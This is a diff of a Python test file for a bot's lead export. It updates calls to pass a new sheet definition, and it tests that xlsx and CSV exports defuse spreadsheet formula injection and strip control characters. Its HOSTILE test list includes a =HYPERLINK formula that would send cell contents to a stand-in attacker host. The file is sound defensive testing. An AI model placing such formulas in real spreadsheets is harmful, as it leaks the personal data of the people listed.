@@ -14,8 +14,15 @@ from openpyxl import load_workbook
 from bot import export
 from bot.privacy import mask_personal
 from bot.storage import Storage
+from conversations.eligibility import load_rules
+from conversations.flow import load_flow
 from tests.conftest import ADMIN_ID, STAFF_CHAT_ID, RunningBot
 from tests.fake_bot_api import FakeBotApi
+from tests.pack import FLOWS, NOTICE, RULES
+
+_RULES = load_rules("eligibility", RULES)
+_FLOW = load_flow(_RULES.flow, FLOWS, NOTICE)
+SHEET = export.LeadSheet(_FLOW, _RULES.formula.direction, tuple(_RULES.export))
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&D3&C3,"详情")',
@@ -55,7 +62,7 @@ def storage() -> Storage:
 @pytest.mark.parametrize("value", HOSTILE)
 def test_xlsx_writes_every_typed_value_as_text(storage: Storage, value: str):
     _lead(storage, value, value, value)
-    data, count = export.export_leads(storage, "xlsx")
+    data, count = export.export_leads(storage, SHEET, "xlsx")
     sheet = load_workbook(io.BytesIO(data)).active
     row = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
     expected = value.replace("\r", "\n")  # XML reads a bare carriage return back as a line feed
@@ -68,7 +75,7 @@ def test_xlsx_writes_every_typed_value_as_text(storage: Storage, value: str):
 @pytest.mark.parametrize("value", HOSTILE)
 def test_csv_neutralises_a_leading_formula_sign(storage: Storage, value: str):
     _lead(storage, value, value, value)
-    data, _ = export.export_leads(storage, "csv")
+    data, _ = export.export_leads(storage, SHEET, "csv")
     row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
     for cell in row[1:4]:
         if value[0] in "=+-@\t\r":
@@ -79,7 +86,7 @@ def test_csv_neutralises_a_leading_formula_sign(storage: Storage, value: str):
 
 def test_xlsx_drops_control_characters_instead_of_failing(storage: Storage):
     _lead(storage, "韶关\x01机械\x1f", "李四", "13812345678")
-    data, _ = export.export_leads(storage, "xlsx")
+    data, _ = export.export_leads(storage, SHEET, "xlsx")
     assert list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))[1][1] == "韶关机械"
 
 
